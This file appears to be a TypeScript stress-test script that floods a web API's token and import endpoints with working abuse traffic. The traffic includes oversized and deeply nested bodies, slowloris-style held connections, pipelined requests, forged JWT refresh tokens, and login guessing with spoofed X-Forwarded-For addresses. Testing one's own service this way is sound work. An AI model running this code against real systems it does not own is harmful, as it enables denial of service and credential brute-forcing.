import { connect } from 'node:net';

const MEGABYTE = 1024 * 1024;
const HELD = 500;
const PIPELINED = 50;

/** Attacks that continue until this process ends, each by four callers: `flood.ts NAME URL`. */
const attacks: Record<string, (url: URL, caller: number) => Promise<unknown>> = {
  'large bodies': (url) => sendRaw(url, head('/projects/import/', 7 * MEGABYTE) + 'x'.repeat(256 * 1024)),
  'deep bodies': (url) => post(url, '/token/pair', '['.repeat(15_000)),
  'slow bodies': (url) => hold(url, `${head('/token/pair', 4000)}{`),
  'calls in one piece': (url) =>
    sendRaw(url, 'GET /api/v2/components/ HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(PIPELINED), PIPELINED),
  'made-up refresh tokens': (url) => post(url, '/token/refresh', JSON.stringify({ refresh: `${JUNK}.c3BvaWxlZA` })),
  'guesses from one address': (url, caller) => guess(url, `198.51.100.${caller}`),
  'guesses from everywhere': (url) => guess(url, [198, 51, random(256), random(256)].join('.')),
};

const JUNK = ['{"alg":"HS256","typ":"JWT"}', '{"sub":"a","sid":"b","type":"refresh","jti":"c","exp":9999999999}']
  .map((part) => Buffer.from(part).toString('base64url'))
  .join('.');

function random(below: number): number {
  return Math.floor(Math.random() * below);
}

function head(path: string, bytes: number): string {
  const lines = [
    `POST /api/v2${path} HTTP/1.1`,
    'Host: a',
    'Content-Type: application/json',
    `Content-Length: ${bytes}`,
  ];
  return `${lines.join('\r\n')}\r\n\r\n`;
}

async function post(url: URL, path: string, body: string, headers: Record<string, string> = {}): Promise<void> {
  const sent = { 'content-type': 'application/json', 'x-forwarded-for': '198.51.100.1', ...headers };
  const response = await fetch(new URL(`/api/v2${path}`, url), { method: 'POST', headers: sent, body });
  await response.arrayBuffer();
}

function guess(url: URL, from: string): Promise<void> {
  const body = JSON.stringify({ username: `person${random(1e6)}@example.com`, password: 'Guess-pass-1' });
  return post(url, '/token/pair', body, { 'x-forwarded-for': from });
}

/** Sends text and waits for so many answers, or for the end of the connection. */
function sendRaw(url: URL, text: string, answers = 1): Promise<void> {
  return new Promise((resolve) => {
    let count = 0;
    const socket = connect(Number(url.port), url.hostname, () => socket.write(text));
    socket.on('data', (data) => {
      count += String(data).split('HTTP/1.1 ').length - 1;
      if (count >= answers) socket.destroy();
    });
    socket.on('error', () => {}).on('close', () => resolve());
  });
}

/** Keeps connections open until the server closes them. */
function hold(url: URL, text: string): Promise<unknown> {
  return Promise.all(Array.from({ length: HELD / CALLERS }, () => sendRaw(url, text)));
}

const CALLERS = 4;
const [name = '', address = ''] = process.argv.slice(2);
const attack = attacks[name];
if (!attack) throw new Error(`There is no attack "${name}"`);
const url = new URL(address);
await Promise.all(
  Array.from({ length: CALLERS }, async (_, caller) => {
    for (;;) await attack(url, caller);
  }),
);
